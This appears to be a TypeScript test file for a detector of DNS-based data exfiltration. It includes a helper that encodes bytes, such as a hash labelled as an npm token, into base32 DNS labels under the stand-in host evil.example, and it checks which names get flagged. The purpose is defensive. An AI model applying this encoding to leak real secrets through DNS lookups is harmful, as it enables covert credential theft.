import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import fastCheck from 'fast-check';
import { foundIn } from './testing/told-findings.ts';

const asking = (...names: string[]) =>
  foundIn((kernel, shell) => {
    for (const name of names) kernel.resolve(shell, name, null);
  });

const base32 = (bytes: Uint8Array) => {
  const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
    .join('');
};

/** As carriers do: labels of at most 50 characters, numbered. */
const carry = (bytes: Uint8Array, parent: string) =>
  (base32(bytes).match(/.{1,50}/g) ?? []).map((part, index) => `${part}.${index}.${parent}`);

test('data in names is found by its volume below one parent', () => {
  const secret = createHash('sha512').update('npm_token').digest();
  const twice = Buffer.concat([secret, secret.reverse()]);
  assert.deepEqual(asking(...carry(twice, 'x.evil.example')), ['High data-in-names *.evil.example']);
  const hex = Buffer.from(secret.subarray(0, 31)).toString('hex');
  assert.deepEqual(asking(`${hex}.evil.example`), ['Medium data-in-names *.evil.example']);
});

test('whatever 512 bytes are carried in names of one parent, they are found', () => {
  fastCheck.assert(
    fastCheck.property(fastCheck.uint8Array({ minLength: 512, maxLength: 512 }), (noise) => {
      const bytes = createHash('sha512').update(noise).digest();
      const all = Buffer.concat(
        Array.from({ length: 8 }, (_, index) => createHash('sha512').update(bytes).update(String(index)).digest()),
      );
      assert.deepEqual(
        asking(...carry(all, 'evil.example'))
          .slice(0, 1)
          .map((line) => line.split(' ')[1]),
        ['data-in-names'],
      );
    }),
    { numRuns: 25 },
  );
});

test('names below many other parents do not hide what one of them is given', () => {
  const others = Array.from({ length: 1_100 }, (_, index) => `0123456789abcdef.other-${index}.example`);
  const secret = createHash('sha512').update('npm_token').digest();
  const found = asking(...others, ...carry(Buffer.concat([secret, secret.reverse()]), 'x.evil.example'));
  assert.deepEqual(found, ['High data-in-names *.evil.example']);
});

test('the names of clouds, packages and clusters carry no data', () => {
  const honest = [
    'packages.example.com',
    'objects.githubusercontent.com',
    'productionresultssa12.blob.core.windows.net',
    'pipelinesghubeus22.actions.githubusercontent.com',
    'results-receiver.actions.githubusercontent.com',
    'docker-images-prod.6aa30f8b08e16409b46e0173d6de2f56.r2.cloudflarestorage.com',
    'd2k1ftgv7pobq7.cloudfront.net',
    '0a1b2c3d4e5f60718293a4b5c6d7e8f9.gr7.us-east-1.eks.amazonaws.com',
    'internal-a5f0c2c3b1e4411e8a1c50a8b9d7f2e1-1234567890.us-east-1.elb.amazonaws.com',
    'o4504617830612992.ingest.sentry.io',
    '3f2504e0-4f89-41d3-9a0c-0305e82c3301.example.com',
    'kubernetes.default.svc.cluster.local',
    'packages.example.com.arc-runners.svc.cluster.local',
    '4.3.2.1.in-addr.arpa',
    'b.a.9.8.7.6.5.4.3.2.1.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa',
    'storage-download.googleapis.com',
    'my-very-long-feature-branch-preview-environment.vercel.app',
    'prod-registry-k8s-io-us-east-1.s3.dualstack.us-east-1.amazonaws.com',
    'auth.docker.io',
    'production.cloudflare.docker.com',
    'crl3.digicert.com',
    'vstsagentpackage.azureedge.net',
    'releases.hashicorp.com',
  ];
  assert.deepEqual(asking(...honest), []);
});
